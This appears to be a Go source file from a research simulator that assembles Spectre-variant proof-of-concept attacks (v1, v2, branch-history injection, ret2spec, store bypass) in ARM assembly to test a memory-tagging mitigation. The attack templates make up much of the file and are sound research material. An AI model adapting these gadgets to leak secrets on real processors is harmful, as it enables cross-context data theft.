package attacks

import (
	"fmt"
	"strings"

	"specasan/internal/asm"
)

// transmitSeq is the classic USE+TRANSMIT tail: encode the secret in X5 into
// a probe-array index and touch the probe line. X22 must hold the probe base.
const transmitSeq = `
    LSL X6, X5, #6
    AND X6, X6, #4032
    LDR X8, [X22, X6]
`

// bodyCacheTransmit is the classic gadget body: ACCESS the secret through
// the trigger's X26 pointer, then transmitSeq. The Spectre rows use it, and
// the SCC rows' cache-transmit variants compare against it.
const bodyCacheTransmit = "    LDR  X5, [X26]" + transmitSeq

// pocDataSection places the shared PoC regions: the victim array (the
// secret is planted immediately past its bounds by setupCommon) and the
// attacker's probe array.
var pocDataSection = fmt.Sprintf(`
    .org %d
array1:
    .space %d
    .org %d
probe:
    .space %d
`, Array1Addr, Array1Size, ProbeAddr, ProbeSize)

// secretPtrSetup materialises the attacker's pointer to the secret in X26.
// foreign = true models the attacker's own (untagged) pointer, whose key
// cannot match the secret's allocation tag; foreign = false models a gadget
// that reaches the secret through the victim's own valid pointer (recovered
// with LDG), which no tag check can refuse.
func secretPtrSetup(foreign bool) string {
	if foreign {
		return fmt.Sprintf("    MOV X26, #%d\n", SecretAddr)
	}
	return fmt.Sprintf("    MOV X26, #%d\n    LDG X26, [X26]\n", SecretAddr)
}

// victimWarm models the victim having recently used its secret through its
// own valid pointer: the secret line is cached when the attack window opens,
// so the speculative ACCESS outruns the (flushed) bounds check — the classic
// Spectre setup.
const victimWarm = `
    MOV  X13, #@SECRETW@
    LDG  X13, [X13]
    LDR  X14, [X13]        // victim recently used its secret: it is cached
    DSB                    // the warm access completes before the attack
`

// expand substitutes @name@ placeholders in a PoC template.
func expand(tmpl string, repl map[string]string) string {
	out := tmpl
	for k, v := range repl {
		out = strings.ReplaceAll(out, "@"+k+"@", v)
	}
	out = strings.ReplaceAll(out, "@WARM@", victimWarm)
	out = strings.ReplaceAll(out, "@SECRETW@", fmt.Sprint(SecretAddr))
	return out
}

// bhbTemplate is the branch-history-injection body: the same call site goes
// through three phases — gadget target under history A, legitimate target
// under history B, then the attack replays history A while the BTB holds the
// legitimate target. Only the history-keyed indirect predictor still holds
// the gadget. X12 counts down from 13: phase A is X12 >= 8, phase B is
// 7..2, the attack iteration (X12 == 1) replays history A. hist_a and
// hist_b are two branch-hop chains with distinct pc/target patterns; each
// fully determines the 8-entry BHB when fetched.
const bhbTemplate = `
_start:
    ADR  X21, array1
    LDG  X21, [X21]
    ADR  X22, probe
@WARM@    ADR  X19, fnslot
    ADR  X24, gadget
    ADR  X25, legit
    MOV  X23, X21
    MOV  X27, #1
@SECRETPTR@    MOV  X12, #13
loop:
    CMP  X12, #8
    CSEL X9, X24, X25, HS  // phase A trains the gadget; B and attack: legit
    STR  X9, [X19]
    CMP  X12, #1
    CSEL X26, X18, X23, EQ
    ADR  X9, fnslot
    DC   CIVAC, X9
    DSB
    CMP  X12, #8
    CSEL X4, X27, XZR, HS  // history selector: A for phase A...
    CMP  X12, #1
    CSEL X4, X27, X4, EQ   // ...and for the attack replay
    CBNZ X4, sel_a
    BL   hist_b
    B    sel_done
sel_a:
    BL   hist_a
sel_done:
    LDR  X9, [X19]
    BLR  X9
    SUB  X12, X12, #1
    CBNZ X12, loop
    SVC  #0

gadget:
    LDR  X5, [X26]
@TRANSMIT@
    RET
legit:
    BTI
    RET

hist_a:
    BTI
    B ha1
ha1: B ha2
ha2: B ha3
ha3: B ha4
ha4: B ha5
ha5: B ha6
ha6: B ha7
ha7: B ha8
ha8: B ha9
ha9: RET
hist_b:
    BTI
    B hb1
hb1:
    NOP
    B hb2
hb2:
    NOP
    B hb3
hb3:
    NOP
    B hb4
hb4:
    NOP
    B hb5
hb5:
    NOP
    B hb6
hb6:
    NOP
    B hb7
hb7:
    NOP
    B hb8
hb8:
    NOP
    B hb9
hb9:
    RET

    .org 0x120000
fnslot:
    .word 0
@DATA@
`

// buildBHB builds the hand-written BHB variant. Its three-phase history loop
// has no trigger template.
func buildBHB(foreign bool) func() (*Scenario, error) {
	return func() (*Scenario, error) {
		prog, err := asm.Assemble(expand(bhbTemplate, map[string]string{
			"SECRETPTR": secretPtrTo18(foreign),
			"TRANSMIT":  transmitSeq,
			"DATA":      pocDataSection,
		}))
		if err != nil {
			return nil, err
		}
		return &Scenario{Prog: prog, Setup: setupCommon}, nil
	}
}

// secretPtrTo18 is secretPtrSetup targeting X18 (the CSEL input), so the
// malicious pointer exists from the start but is only selected on the
// attack iteration.
func secretPtrTo18(foreign bool) string {
	if foreign {
		return fmt.Sprintf("    MOV X18, #%d\n", SecretAddr)
	}
	return fmt.Sprintf("    MOV X18, #%d\n    LDG X18, [X18]\n", SecretAddr)
}

// pht, btb and rsb are Table 1's recipes on the pointer triggers: Spectre
// v1's 17-iteration loop through the victim-array pointer (its
// out-of-bounds access always violates tags), Spectre v2's call site
// trained 7 times, and ret2spec with the classic body.
func pht(body string) Gadget      { return Gadget{TriggerPHT, RelForeign, 17, body} }
func btb(rel, body string) Gadget { return Gadget{TriggerBTB, rel, 7, body} }
func rsb(rel string) Gadget       { return Gadget{TriggerRSB, rel, 0, bodyCacheTransmit} }

// SpectrePHT is the Spectre-v1 bounds-check-bypass PoC of Listing 1: a
// mistrained conditional branch lets a speculative load index past array1's
// bounds into the secret, which carries a different allocation tag.
func SpectrePHT() *Attack {
	return &Attack{
		Name:     "PHT (Spectre v1)",
		Class:    "Spectre",
		Variants: []Variant{pht(bodyCacheTransmit).Variant("bounds-check-bypass")},
	}
}

// SpectreBTB is the Spectre-v2 branch-target-injection PoC: one indirect
// call site is trained into a non-BTI gadget; on the final iteration the
// victim publishes the legitimate target and the attacker-steered pointer,
// but the predictor still fires into the gadget while the (flushed)
// function-pointer load is outstanding. The "matching-key" variant
// demonstrates the partial mitigation the paper describes for SpecASan: a
// gadget whose load carries the victim's own valid tag cannot be refused by
// a tag check, only by CFI.
func SpectreBTB() *Attack {
	return &Attack{
		Name:  "BTB (Spectre v2)",
		Class: "Spectre",
		Variants: []Variant{
			btb(RelForeign, bodyCacheTransmit).Variant("foreign-key-gadget"),
			btb(RelMatching, bodyCacheTransmit).Variant("matching-key-gadget"),
		},
	}
}

// SpectreBHB builds the branch-history-injection PoC: the indirect
// predictor is keyed by (speculatively updated) branch history, so a gadget
// target trained under history A fires even after the BTB was retrained to
// the legitimate target under history B — the attacker replays history A.
func SpectreBHB() *Attack {
	return &Attack{
		Name:  "BHB (BHI)",
		Class: "Spectre",
		Variants: []Variant{
			{Name: "foreign-key-gadget", Build: buildBHB(true)},
			{Name: "matching-key-gadget", Build: buildBHB(false)},
		},
	}
}

// SpectreRSB is the ret2spec PoC: the attacker stuffs the return stack
// buffer with a gadget address (modelling cross-context RSB pollution); the
// victim's return-address load is slow, so the RET speculates into the
// gadget until the real target resolves.
func SpectreRSB() *Attack {
	return &Attack{
		Name:  "RSB (Spectre v5)",
		Class: "Spectre",
		Variants: []Variant{
			rsb(RelForeign).Variant("foreign-key-gadget"),
			rsb(RelMatching).Variant("matching-key-gadget"),
		},
	}
}

// SpectreSTL is the Spectre-v4 speculative-store-bypass PoC: a store whose
// address resolves slowly is bypassed by a younger load to the same
// location, which transiently reads the stale value — here the secret left
// behind in a freed-and-reallocated slot (the tag was refreshed on realloc,
// so the committed-path pointer is valid while the *stale data* is secret).
// The trigger leaves the stale read in X5, so the body is the transmit alone.
func SpectreSTL() *Attack {
	return &Attack{
		Name:  "STL (Spectre v4)",
		Class: "Spectre",
		Variants: []Variant{
			Gadget{Trigger: TriggerSTL, Relation: RelStale, Body: transmitSeq}.Variant("store-bypass-stale-read"),
		},
	}
}
